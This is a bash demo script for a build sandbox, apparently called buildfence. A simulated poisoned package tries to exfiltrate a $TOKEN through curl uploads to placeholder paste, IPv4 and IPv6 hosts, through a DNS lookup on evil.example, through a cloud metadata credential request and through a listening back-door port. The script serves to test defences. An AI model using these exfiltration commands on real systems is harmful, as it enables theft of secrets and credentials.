#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# The demo's build job. It fetches what it needs; then a poisoned step tries to get $TOKEN out, every
# way it knows. `make demo` runs it under buildfence, whose lines appear between those printed here.

say() { printf '%s\n' "$*" >&2; }

fetch() {
	local host=${1#https://}
	curl -sS --cacert "$CA" --max-time 10 -o /dev/null "$1" && say "  fetched  https://${host%%/*}  over TLS"
}

# attempt WHAT COMMAND...: a moment later, what the guard says about it has been printed.
attempt() {
	say "  $1"
	shift
	"$@" >/dev/null 2>&1 && say "           IT GOT OUT"
	sleep 0.15
}

send() { curl -4 -sS --insecure --http0.9 --max-time 10 --data "$TOKEN" "$@"; }

# Waits for the outside to have knocked on a port that the job listens on.
listen() {
	"$PYTHON" -c 'import os, socket
listener = socket.create_server(("", 8000))
listener.settimeout(10)
open(os.environ["DEMO"] + "/listening", "w").close()
while not os.path.exists(os.environ["DEMO"] + "/knocked"):
    listener.settimeout(0.1)
    try:
        listener.accept()
        raise SystemExit(0)
    except TimeoutError:
        pass
raise SystemExit(1)'
}

say "the build:"
fetch https://pkgs.dev.azure.com/contoso/_packaging/feed/index.json || exit 1
fetch https://contosoartifacts.blob.core.windows.net/packages/left-pad.tgz || exit 1
say "a poisoned package runs its install script:"
attempt "upload the token to a paste service, by name" send https://paste.example/
attempt "hide the token in a DNS question" getent ahostsv4 "$TOKEN.evil.example"
attempt "upload to a bare address" send http://203.0.113.66/
attempt "the same over IPv6" send -6 'http://[2001:db8:e::66]/'
attempt "an allowed address, but another port" send http://198.51.100.11:8081/
attempt "ask the cloud's metadata service for credentials" send http://169.254.169.254/metadata/identity
attempt "open a back door on port 8000; the attacker knocks" listen
say "the build is done"
